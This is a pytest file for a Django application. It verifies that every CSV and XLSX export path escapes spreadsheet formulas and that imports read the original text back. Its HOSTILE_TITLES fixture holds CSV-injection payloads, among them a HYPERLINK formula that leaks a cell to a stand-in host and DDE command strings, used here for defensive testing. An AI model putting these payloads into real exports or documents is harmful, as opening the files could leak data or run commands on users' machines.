"""Exports never hand a spreadsheet a formula to run, and give the same text back on import.

A title such as « =HYPERLINK("http://…/?leak="&A2,"Cliquez ici") » came out verbatim in the
CSV and as a live formula in the XLSX that every role downloads; reimporting that XLSX read
the cell back empty. Every export path (the « Listes » page, the action list, the admin)
now writes such a cell as text and every import reads the same text back.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actions.models import Action
from actions.resources import ActionResource
from actions.tests.factories import ActionFactory
from axes.tests.factories import AxisFactory
from federation.lists import LISTS
from network.models import Partner
from network.tests.factories import PartnerFactory
from toolkit.tables import (
    SafeCSV,
    SafeXLSX,
    formula_escape,
    formula_unescape,
    table_export,
    table_import,
    table_read,
)

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://example.invalid/?leak="&A2,"Cliquez ici")',
    "+33 4 75 00 00 00 appeler",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=déjà une apostrophe",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text",
    [*HOSTILE_TITLES, "Une action", "-12", "+3,5", "'", "''", "'Citation'", "", "== deux", "'''=trois"],
)
def test_escaping_then_unescaping_gives_the_text_back(text):
    escaped = formula_escape(text)
    assert not escaped.startswith(FORMULA_STARTS) or escaped in ("-12", "+3,5")
    assert formula_unescape(escaped) == text


def test_a_cell_of_many_apostrophes_is_no_trouble():
    text = "'" * 50_000 + "=1+1"
    assert formula_unescape(formula_escape(text)) == text


def test_numbers_and_plain_text_are_left_alone():
    for text in ["Accompagner les centres", "-12", "+3,5", "1 200", "'Citation'"]:
        assert formula_escape(text) == text


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))  # formulas as formulas, not their values
    return [cell for row in workbook.active.iter_rows() for cell in row]


def assert_no_formula(content: bytes, file_format: str) -> None:
    if file_format == "csv":
        running = [cell for cell in cells_of_csv(content) if cell.startswith(FORMULA_STARTS)]
    else:
        running = [
            cell.value
            for cell in xlsx_cells(content)
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
        ]
    assert running == []


@pytest.fixture
def hostile_actions():
    axis = AxisFactory(title="=1+2 axe")
    return [ActionFactory(axis=axis, title=title, description=title) for title in HOSTILE_TITLES]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_lists_export_neutralises_formulas_and_reimports_the_same_text(hostile_actions, file_format):
    PartnerFactory(name="@Partenaire", kind=Partner.Kind.CAF)
    for slug in ("actions", "partenaires"):
        content = table_export(kind=LISTS[slug], file_format=file_format)
        assert_no_formula(content, file_format)

        dataset = table_read(content=content, filename=f"liste.{file_format}")
        report = table_import(kind=LISTS[slug], dataset=dataset, dry_run=False)
        assert report.ok, report.errors
        assert (report.created, report.updated) == (0, 0)  # the same text: nothing changed
    titles = set(Action.objects.values_list("title", flat=True))
    assert titles == set(HOSTILE_TITLES)
    dataset = table_read(
        content=table_export(kind=LISTS["actions"], file_format=file_format), filename=f"a.{file_format}"
    )
    assert {row[dataset.headers.index("intitulé")] for row in dataset} == set(HOSTILE_TITLES)
    assert {row[dataset.headers.index("titre de l’axe")] for row in dataset} == {"=1+2 axe"}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_action_list_export_neutralises_formulas(client, board_user, hostile_actions, file_format):
    client.force_login(board_user)
    response = client.get(reverse("actions:action_export", args=[file_format]))
    assert response.status_code == 200
    assert_no_formula(response.content, file_format)
    dataset = table_read(content=response.content, filename=f"actions.{file_format}")
    assert {row[dataset.headers.index("intitulé")] for row in dataset} == set(HOSTILE_TITLES)


@pytest.mark.parametrize("file_format", [SafeCSV, SafeXLSX])
def test_the_admin_export_neutralises_formulas_and_its_import_reads_them_back(hostile_actions, file_format):
    dataset = ActionResource().export(force_native_type=file_format is SafeXLSX)
    content = file_format().export_data(dataset)
    content = content.encode("utf-8") if isinstance(content, str) else content
    assert_no_formula(content, "xlsx" if file_format is SafeXLSX else "csv")
    read_back = file_format().create_dataset(content)
    assert {row[read_back.headers.index("intitulé")] for row in read_back} == set(HOSTILE_TITLES)


@pytest.mark.parametrize(("choice", "file_format"), [("0", "csv"), ("1", "xlsx")])
def test_the_admin_export_is_neutralised_too(client, superuser, hostile_actions, choice, file_format):
    client.force_login(superuser)
    columns = {f"actionresource_{name}": "on" for name in ActionResource._meta.fields}
    response = client.post(reverse("admin:actions_action_export"), {"format": choice, "resource": "0", **columns})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert_no_formula(response.content, file_format)
